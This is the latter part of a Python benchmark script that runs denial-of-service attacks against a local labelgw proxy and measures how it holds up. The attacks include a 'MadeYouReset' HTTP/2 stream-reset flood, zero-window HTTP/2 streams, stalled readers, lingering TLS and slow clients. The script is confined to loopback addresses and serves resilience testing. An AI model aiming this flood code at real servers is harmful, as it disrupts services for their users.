                       (b":path", f"/download?bytes={self.args.large_bytes}".encode())]
            for _ in range(streams):
                conn.send_headers(conn.get_next_available_stream_id(), headers, end_stream=True)
                self.streams += 1
            writer.write(conn.data_to_send())
            await writer.drain()

        await self._many(self.args.h2_connections, one)

    def close(self) -> None:
        for task in self.readers:
            task.cancel()
        super().close()

    def details(self, hold_end: float) -> dict[str, Any]:
        return super().details(hold_end) | {
            "connections": len(self.transports), "streams": self.streams, "responses": self.responses,
            "resets": dict(self.resets), "goaway": self.goaways,
        }


class MadeYouReset(Attack):
    """Case 7: streams the server is made to reset itself, as fast as it takes them, on one connection."""

    async def open(self) -> None:
        from hpack import Encoder

        self.sent = 0
        self.responses = 0
        self.resets: Counter[str] = Counter()
        self.goaway: dict[str, Any] | None = None
        self.closed = False
        name = host("count")
        async with asyncio.timeout(CONNECT_TIMEOUT_S):
            reader, writer = await asyncio.open_connection("127.0.0.1", self.https_port, ssl=insecure_tls(("h2",)),
                                                           local_addr=self.source,
                                                           server_hostname=name)
        self.transports.append(writer.transport)
        if writer.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
            raise ssl.SSLError("ALPN did not choose h2")
        writer.write(H2_PREFACE + h2_frame(SETTINGS, 0, 0))
        started = time.monotonic()

        async def pump() -> None:
            buffer = bytearray()
            try:
                while data := await reader.read(65536):
                    buffer += data
                    for kind, flags, stream_id, payload in h2_frames(buffer):
                        if kind == SETTINGS and not flags & ACK:
                            writer.write(h2_frame(SETTINGS, ACK, 0))
                        elif kind == PING and not flags & ACK:
                            writer.write(h2_frame(PING, ACK, 0, payload))
                        elif kind == HEADERS:
                            self.responses += 1
                        elif kind == RST_STREAM and len(payload) == 4:
                            self.resets[H2_ERRORS.get(int.from_bytes(payload, "big"), "other")] += 1
                        elif kind == GOAWAY and len(payload) >= 8 and self.goaway is None:
                            code = int.from_bytes(payload[4:8], "big")
                            self.goaway = {"error": H2_ERRORS.get(code, str(code)),
                                           "last_stream_id": int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                                           "after_streams": self.sent,
                                           "after_s": round(time.monotonic() - started, 2)}
            except (OSError, ssl.SSLError):
                pass
            self.closed = True

        self.reader = asyncio.create_task(pump())
        encoder = Encoder()
        headers = [(":method", "GET"), (":scheme", "https"), (":authority", name), (":path", "/")]
        deadline = started + self.args.myr_seconds
        stream_id = 1
        opened: list[int] = []  # the previous batch's streams, whose requests labelgw has had time to forward
        try:
            while opened or (self.sent < self.args.myr_streams and time.monotonic() < deadline):
                if self.goaway is not None or self.closed:
                    break
                batch = bytearray()
                for earlier in opened:
                    batch += reset_trigger(earlier, earlier // 2)
                opened = []
                while len(opened) < 20 and self.sent < self.args.myr_streams and time.monotonic() < deadline:
                    batch += h2_frame(HEADERS, END_STREAM | END_HEADERS, stream_id, encoder.encode(headers))
                    opened.append(stream_id)
                    stream_id += 2
                    self.sent += 1
                writer.write(batch)
                async with asyncio.timeout(2.0):
                    await writer.drain()
                await asyncio.sleep(0.005)  # the reader's turn, and labelgw's to forward the new requests
        except (TimeoutError, OSError):
            self.connect_errors["write-stalled-or-closed"] += 1
        self.flood_s = time.monotonic() - started

    def close(self) -> None:
        reader = getattr(self, "reader", None)
        if reader is not None:
            reader.cancel()
        super().close()

    def details(self, hold_end: float) -> dict[str, Any]:
        return super().details(hold_end) | {
            "streams_sent": getattr(self, "sent", 0), "flood_s": round(getattr(self, "flood_s", 0.0), 2),
            "responses": getattr(self, "responses", 0), "resets": dict(getattr(self, "resets", {})),
            "goaway": getattr(self, "goaway", None),
        }


ATTACKS: dict[str, type[Attack]] = {
    "5": LingeringTLS, "6a": StalledReaders, "6b": ZeroWindowH2, "6c": PlainClients, "7": MadeYouReset,
}
# The backend whose request count a case reports.
COUNTED = {"6a": "big", "6b": "big", "6c": "slow", "7": "count"}


# -- one case -----------------------------------------------------------------------------------------------------


@dataclass
class Environment:
    prefix: Path
    state: Path
    backend_ports: dict[str, int]


async def backend_counts(port: int) -> dict[str, int]:
    """The request counts of one of our backends (and its peak of concurrent requests, reset by the call)."""
    try:
        async with asyncio.timeout(2.0):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(b"GET /__count HTTP/1.1\r\nHost: backend\r\nConnection: close\r\n\r\n")
            data = await reader.read()
            writer.close()
        return dict(json.loads(data.split(b"\r\n\r\n", 1)[1]))
    except (OSError, TimeoutError, ValueError, IndexError):
        return {}


async def attack_case(case: str, args: argparse.Namespace, env: Environment, server: Managed, http_port: int,
                      https_port: int) -> CaseResult:
    pid = server.process.pid  # type: ignore[union-attr]
    origin = time.monotonic()
    samples: list[Sample] = []
    memory_guard = asyncio.Event()
    gone = asyncio.Event()

    def sample() -> Sample | None:
        found = proc_sample(pid, round(time.monotonic() - origin, 3), (http_port, https_port),
                            tuple(env.backend_ports.values()))
        if found is None or server.exited() is not None:
            gone.set()
            return None
        samples.append(found)
        if found.rss_mib > args.rss_cap:
            memory_guard.set()
        return found

    async def sampler() -> None:
        while True:
            await asyncio.sleep(SAMPLE_INTERVAL_S)
            sample()

    details: dict[str, Any] = {}
    baseline = sample()
    if baseline is None:
        return failed_case(case, "labelgw is not running")
    details["labelgw_nofile_soft"] = proc_nofile(pid)
    counted = COUNTED.get(case)
    if counted:
        await backend_counts(env.backend_ports[counted])  # resets the peak of concurrent requests
    before = await backend_counts(env.backend_ports[counted]) if counted else {}
    sampling = asyncio.create_task(sampler())
    probe = await asyncio.create_subprocess_exec(
        sys.executable, str(Path(__file__).resolve()), "probe", "--http-port", str(http_port), "--https-port",
        str(https_port), "--rate", str(PROBE_RATE), stdout=asyncio.subprocess.PIPE, stdin=asyncio.subprocess.DEVNULL,
        start_new_session=True)
    attack = ATTACKS[case](args, http_port, https_port)
    records: list[ProbeRecord] = []
    stops = [asyncio.create_task(event.wait()) for event in (memory_guard, gone)]
    try:
        # The ramp, until it is done, its time is up, labelgw's RSS passed --rss-cap or labelgw is gone.
        opening = asyncio.create_task(attack.open())
        await asyncio.wait([opening, *stops], timeout=RAMP_LIMIT_S + 2 * CONNECT_TIMEOUT_S,
                           return_when=asyncio.FIRST_COMPLETED)
        opening.cancel()
        try:
            await opening
        except (asyncio.CancelledError, Exception) as error:  # whatever it got to is still measured
            details["attack_error"] = repr(error)
        ramp_s = time.monotonic() - attack.started
        hold = args.tls_hold if case == "5" else args.hold
        hold_start = time.monotonic() - origin
        await asyncio.wait(stops, timeout=hold)
        hold_end = time.monotonic()
        probe.send_signal(signal.SIGTERM)
        try:
            async with asyncio.timeout(PROBE_TIMEOUT_S + 5):
                out, _ = await probe.communicate()
            records = [ProbeRecord(*row) for row in json.loads(out or b"[]")]
        except (TimeoutError, ValueError, TypeError) as error:
            details["probe_error"] = repr(error)
        details |= attack.details(hold_end)
        details["ramp_s"] = round(ramp_s, 2)
        details["memory_guard"] = memory_guard.is_set()
        if case == "5":
            released = first_release(samples, hold_start, RELEASED_MARGIN_FDS)
            details["client_sockets_released_after_s"] = (
                "never" if released is None else round(max(0.0, released - hold_start), 2))
            details["client_sockets_over_the_hold"] = timeline(samples, hold_start, hold_end - origin, 2.0)
    finally:
        for task in stops:
            task.cancel()
        attack.close()
        if probe.returncode is None:
            probe.kill()
            await probe.wait()
    attack_s = time.monotonic() - attack.started
    await asyncio.sleep(SETTLE_S)
    after = sample()
    sampling.cancel()
    if counted:
        after_counts = await backend_counts(env.backend_ports[counted])
        details[f"backend_{counted}_requests"] = after_counts.get("requests", 0) - before.get("requests", 0)
        details[f"backend_{counted}_max_concurrent"] = after_counts.get("max_active")
        details[f"backend_{counted}_active_after"] = after_counts.get("active")
        details[f"backend_{counted}_abandoned_by_labelgw"] = (after_counts.get("abandoned", 0)
                                                             - before.get("abandoned", 0))
    during = [s for s in samples if s.at <= attack_s + baseline.at]
    return CaseResult(
        case=case,
        title=CASE_TITLES[case],
        probe=summarize_probe(records) if records else None,
        baseline_fds=baseline.fds,
        baseline_rss_mib=round(baseline.rss_mib, 1),
        peak_fds=max(s.fds for s in during or samples),
        peak_rss_mib=round(max(s.rss_mib for s in during or samples), 1),
        after_fds=after.fds if after else None,
        after_rss_mib=round(after.rss_mib, 1) if after else None,
        alive=after is not None,
        attack_s=round(attack_s, 2),
        baseline_upstream=baseline.upstream,
        peak_clients=max(s.clients for s in during or samples),
        peak_upstream=max(s.upstream for s in during or samples),
        after_upstream=after.upstream if after else None,
        details=details,
        samples=samples,
    )


def https_ready(server: Managed, port: int, names: Sequence[str]) -> str | None:
    """None once a TLS GET / answers for every name (so labelgw minted their certificates before the attack)."""

    def answers() -> str | None:
        for name in names:
            with socket.create_connection(("127.0.0.1", port), timeout=3) as raw:
                with insecure_tls().wrap_socket(raw, server_hostname=name) as tls:
                    tls.sendall(f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode())
                    head = tls.recv(64)
            if not head.startswith(b"HTTP/1.1 "):
                return f"{name}: no HTTP answer"
        return None

    return wait_until(server, answers, READY_TIMEOUT_S)


def run_case(case: str, args: argparse.Namespace, env: Environment) -> CaseResult:
    prefix = env.prefix / f"case-{case}"
    prefix.mkdir()
    http_port, https_port = free_port(), free_port()
    server = labelgw_server(prefix, env.backend_ports["bench"], [
        "--http", f"tcp:{http_port}:interface=127.0.0.1",
        "--https", f"tcp:{https_port}:interface=127.0.0.1",
        "--state-dir", str(env.state),
        "--admin", "none",
    ])
    # The launcher writes a one-service configuration; this run needs all of its services and a short idle timeout.
    config = Path(server.argv[server.argv.index("--config") + 1])
    config.write_text(labelgw_config(env.backend_ports, args.idle_timeout))
    with nofile_soft_limit(args.labelgw_nofile):
        server.start()
    try:
        problem = wait_ready(server, http_port, READY_TIMEOUT_S) or https_ready(
            server, https_port, [host("bench"), host("big"), host("count")])
        if problem:
            return failed_case(case, f"labelgw not ready: {problem}: {server.log_tail(3)}")
        result = asyncio.run(attack_case(case, args, env, server, http_port, https_port))
        if not result.alive:
            result.details["log_tail"] = server.log_tail(5)
        return result
    finally:
        server.stop()


def case_line(result: CaseResult) -> str:
    if result.error:
        return f"case {result.case}: ERROR {result.error}"
    probe = result.probe
    served = (f"others {probe.success_pct:.1f} % ok of {probe.requests} (p50 {probe.p50_ms:.0f} ms, "
              f"p99 {probe.p99_ms:.0f} ms, failures {probe.failures or 'none'}; ok by target: "
              + ", ".join(f"{t} {pct:.0f} %" for t, pct in probe.by_target.items()) + ")"
              if probe else "others: no figures")
    shown = {k: v for k, v in result.details.items() if k == "goaway" or not (v is None or v == {} or v == [])}
    return (f"case {result.case} ({result.title}): {served}; labelgw RSS {result.baseline_rss_mib:.0f} -> "
            f"{result.peak_rss_mib:.0f} MiB peak, fds {result.baseline_fds} -> {result.peak_fds} peak (clients "
            f"{result.peak_clients}, upstream {result.peak_upstream}) -> {_fmt(result.after_fds, 'd')} after "
            f"({_fmt(result.after_upstream, 'd')} upstream); {json.dumps(shown, default=str)} => {result.verdict}"
            + (f" ({'; '.join(result.reasons)})" if result.reasons else ""))


# -- main ---------------------------------------------------------------------------------------------------------


def bench(args: argparse.Namespace) -> dict[str, object]:
    started_at = time.monotonic()
    own_limit = raise_own_nofile(args.attacker_nofile)
    prefix = Path(tempfile.mkdtemp(prefix="labelgw-attack-"))
    state = prefix / "state"
    from labelgw.tls.ca import LocalCA

    LocalCA.load_or_create(state)  # once, so no labelgw start spends time creating it
    ports = {name: free_port() for name in SERVICES}
    backends = [
        Managed(f"backend-{name}", [sys.executable, str(Path(__file__).resolve()), "backend", "--port", str(port),
                                    "--delay-ms", str(SERVICES[name]), "--name", name],
                prefix / f"backend-{name}.log")
        for name, port in ports.items()
    ]
    env = Environment(prefix, state, ports)
    results: list[CaseResult] = []
    print(f"labelgw's open-file limit: {args.labelgw_nofile} (soft); this script's: {own_limit}; "
          f"cases {','.join(args.cases)}, hold {args.hold:g} s (case 5: {args.tls_hold:g} s); load average {os.getloadavg()[0]:.2f}")
    try:
        for backend in backends:
            backend.start()
        for backend, port in zip(backends, ports.values()):
            problem = wait_until(backend, lambda: None if asyncio.run(backend_counts(port)) else "no answer", 10.0)
            if problem:
                raise SystemExit(f"{backend.name}: {problem}\n{backend.log_tail()}")
        for case in args.cases:
            try:
                result = run_case(case, args, env)
            except Exception as error:  # a bug or a surprise in one case does not cost the others
                result = failed_case(case, f"{type(error).__name__}: {error}")
            result.verdict, result.reasons = judge(result)
            results.append(result)
            print(case_line(result))
    finally:
        for backend in reversed(backends):
            backend.stop()
        if args.keep_logs:
            print(f"logs and configurations kept in {prefix}")
        else:
            shutil.rmtree(prefix, ignore_errors=True)
    print()
    print(format_table(results))
    wall = time.monotonic() - started_at
    print(f"\nwall time {wall:.0f} s")
    return {
        "command": [sys.executable, *sys.argv],
        "labelgw_nofile": args.labelgw_nofile,
        "attacker_nofile": own_limit,
        "wall_s": round(wall, 1),
        "settings": {k: v for k, v in vars(args).items() if k != "json"},
        "cases": [asdict(r) for r in results],
    }


def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n\n")[0])
    parser.add_argument("--cases", default=",".join(CASES), help="comma list among " + ", ".join(CASES))
    parser.add_argument("--hold", type=float, default=6.0, help="seconds the attack is held once set up")
    parser.add_argument("--tls-hold", type=float, default=10.0, help="case 5's hold: time for labelgw to give up "
                        "on the clients that never send close_notify")
    parser.add_argument("--tls-clients", type=int, default=1000, help="case 5's TLS clients")
    parser.add_argument("--stalled-clients", type=int, default=1030, help="case 6a's clients that stop reading")
    parser.add_argument("--large-bytes", type=int, default=8 * MIB, help="size of 6a's and 6b's large answers")
    parser.add_argument("--h2-connections", type=int, default=11, help="case 6b's HTTP/2 connections")
    parser.add_argument("--h2-streams", type=int, default=100, help="6b's streams per connection (at most the "
                        "server's SETTINGS_MAX_CONCURRENT_STREAMS)")
    parser.add_argument("--slow-clients", type=int, default=1100, help="case 6c's slow requests")
    parser.add_argument("--myr-streams", type=int, default=10_000, help="case 7's most streams")
    parser.add_argument("--myr-seconds", type=float, default=4.0, help="case 7's most seconds of flood")
    parser.add_argument("--idle-timeout", type=float, default=3.0, help="labelgw's idle_timeout (config file)")
    parser.add_argument("--attacker-address", default="127.0.0.2",
                        help="loopback address the attackers connect from (the well-behaved client uses 127.0.0.1)")
    parser.add_argument("--labelgw-nofile", type=int, default=1024, help="labelgw's soft open-file limit")
    parser.add_argument("--attacker-nofile", type=int, default=16384, help="this script's open-file limit, if allowed")
    parser.add_argument("--rss-cap", type=float, default=2048.0, help="MiB of labelgw RSS that stop an attack early")
    parser.add_argument("--json", type=Path, default=None,
                        help="also write every figure to this file ('-': to stdout, everything else to stderr)")
    parser.add_argument("--keep-logs", action="store_true", help="keep the temporary directory with labelgw's logs")
    args = parser.parse_args(argv)
    args.cases = [c.strip() for c in args.cases.split(",") if c.strip()]
    if not args.attacker_address.startswith("127."):
        parser.error("--attacker-address must be a loopback address (127.0.0.0/8)")
    unknown = sorted(set(args.cases) - set(CASES))
    if unknown or not args.cases:
        parser.error(f"--cases: unknown {', '.join(unknown) or '(none given)'}; choose among {', '.join(CASES)}")
    bounds = {"hold": (0.5, 60), "tls_hold": (0.5, 60), "tls_clients": (1, 5000), "stalled_clients": (1, 5000), "h2_connections": (1, 100),
              "h2_streams": (1, 1000), "slow_clients": (1, 5000), "myr_streams": (1, 100_000),
              "myr_seconds": (0.1, 10), "idle_timeout": (0.1, 600), "labelgw_nofile": (64, 1 << 20),
              "attacker_nofile": (1024, 1 << 20), "large_bytes": (1, 1 << 30), "rss_cap": (64, 1 << 20)}
    for name, (low, high) in bounds.items():
        if not low <= getattr(args, name) <= high:
            parser.error(f"--{name.replace('_', '-')} must be between {low} and {high}")
    return args


def role_main(argv: Sequence[str]) -> int:
    """The script's helper processes: `backend` (a counting HTTP server) and `probe` (the well-behaved client)."""
    parser = argparse.ArgumentParser(prog=f"attack.py {argv[0]}")
    if argv[0] == "backend":
        parser.add_argument("--port", type=int, required=True)
        parser.add_argument("--delay-ms", type=int, default=0)
        parser.add_argument("--name", default="backend")
        args = parser.parse_args(argv[1:])
        raise_own_nofile(16384)
        asyncio.run(serve_backend(args.port, args.delay_ms, args.name))
        return 0
    parser.add_argument("--http-port", type=int, required=True)
    parser.add_argument("--https-port", type=int, required=True)
    parser.add_argument("--rate", type=float, default=PROBE_RATE)
    parser.add_argument("--max-s", type=float, default=PROBE_MAX_S)
    args = parser.parse_args(argv[1:])
    targets = [f"http:{PROBE_SERVICES[0]}", f"http:{PROBE_SERVICES[1]}", f"https:{PROBE_SERVICES[0]}"]
    records = asyncio.run(run_probe(targets, args.http_port, args.https_port, args.rate, args.max_s))
    sys.stdout.write(json.dumps([[r.at, r.latency, r.status, r.error, r.target] for r in records]))
    return 0


def main(argv: Sequence[str] | None = None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    if argv and argv[0] in ("backend", "probe"):
        return role_main(argv)
    args = parse_args(argv)
    if str(args.json) != "-":
        return run_bench(bench, args)
    # --json -: the report alone on stdout, the progress and the table on stderr.
    args.json = None
    reports: list[dict[str, object]] = []

    def bench_to_stdout(args: argparse.Namespace) -> dict[str, object]:
        with redirect_stdout(sys.stderr):
            reports.append(bench(args))
        return reports[-1]

    code = run_bench(bench_to_stdout, args)
    if reports:
        sys.stdout.write(json.dumps(reports[0], indent=1, default=str) + "\n")
    return code


if __name__ == "__main__":
    sys.exit(main())
